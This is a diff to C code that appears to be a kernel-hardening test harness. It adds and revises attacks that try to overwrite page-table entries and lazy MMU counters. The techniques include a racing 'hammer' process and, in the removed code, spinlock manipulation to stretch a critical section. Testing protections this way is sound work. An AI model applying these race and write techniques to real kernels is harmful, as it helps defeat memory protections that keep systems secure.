@@ -46,6 +46,17 @@ static int direct(void)
 	return steal_by_write(own_page_slot());
 }
 
+static bool write_lazily(u64 slot, u64 value)
+{
+	kernel_write_lazily(slot, value);
+	return true;
+}
+
+static int in_section(void)
+{
+	return steal_by(write_lazily, own_page_slot());
+}
+
 /*
  * Whether half of a word can be a register in the default context, with which
  * the page tables' pkey, number 1, may be read but not written; and the same
@@ -213,35 +224,18 @@ static int prepare_race(void)
 }
 
 /*
- * Takes a spinlock, a queued one, or gives it back, as its holder would. On UML
- * the setters take this one, so that a section lasts as long as the attacker
- * likes.
- */
-static void set_lock(u64 lock, bool locked)
-{
-	uint32_t word = kernel_read(lock & ~7ULL) >> (lock & 4 ? 32 : 0);
-
-	kernel_write32(lock, (word & ~0xffU) | locked);
-}
-
-/*
  * Sees a thread in a lazy MMU section, whose first counter is 1, and writes both.
- * Done by a process with memory of its own: on UML, those with the memory that
- * the lock is for wait for it when they return to user mode, even with the CPU
- * that they share with this one. So they sleep.
+ * Done by a process with memory of its own.
  */
-static int write_counts(u64 counts, u64 lock)
+static int write_counts(u64 counts)
 {
 	unsigned int shift = (counts & 7) * 8;
 	u64 addr = counts & ~7ULL, word, start, end = now_ns() + 5000000000ULL;
-	bool um = on_arch("um");
 
 	run_on_cpu(0);
 	wait_for(ASLEEP, 1);
 	usleep(200000);
 	while (hammering() && now_ns() < end) {
-		if (um)
-			set_lock(lock, true);
 		*(volatile u64 *)GO_ON = 1;
 		start = now_ns();
 		do {
@@ -252,8 +246,6 @@ static int write_counts(u64 counts, u64 lock)
 				     *(volatile u64 *)COUNTS << shift);
 			*(volatile u64 *)HAMMER = 0;
 		} while (hammering() && now_ns() - start < 50000000);
-		if (um)
-			set_lock(lock, false);
 		usleep(1000);
 	}
 	return 0;
@@ -261,13 +253,13 @@ static int write_counts(u64 counts, u64 lock)
 
 static int hammer_counts(u64 value)
 {
-	u64 lock = 0;
+	u64 counts;
 	int tries;
 
+	if (!try_lookup("task_struct.lazy_mmu_state", &counts))
+		return not_possible("there is no lazy MMU mode");
 	if (prepare_race())
 		return NOT_POSSIBLE;
-	if (on_arch("um"))
-		lock = leak.mm + lookup("mm_struct.context.sync_tlb_lock");
 	for (tries = 0; tries < SECTION_TRIES; tries++) {
 		pid_t pid, hammer;
 
@@ -277,7 +269,7 @@ static int hammer_counts(u64 value)
 		shared->nr_writes = 0;
 		hammer = fork();
 		if (!hammer)
-			_exit(write_counts(*TASK + lookup("task_struct.lazy_mmu_state"), lock));
+			_exit(write_counts(*TASK + counts));
 		*ASLEEP = 1;
 		waitpid(hammer, NULL, 0);
 		if (steal_with_helper(pid))
@@ -568,6 +560,7 @@ static int msr_number(void)
 
 const struct attack registers[] = {
 	{ "direct-write", "an entry of a page table", direct },
+	{ "lazy-write", "an entry of a page table, by code in a lazy MMU section", in_section },
 	{ "reg-switched-out", "the register of a thread that sleeps", switched_out },
 	{ "lazy-enable-count", "lazy_mmu_state.enable_count, during a section", enable_count },
 	{ "lazy-pause-count", "lazy_mmu_state.pause_count, during a section", pause_count },
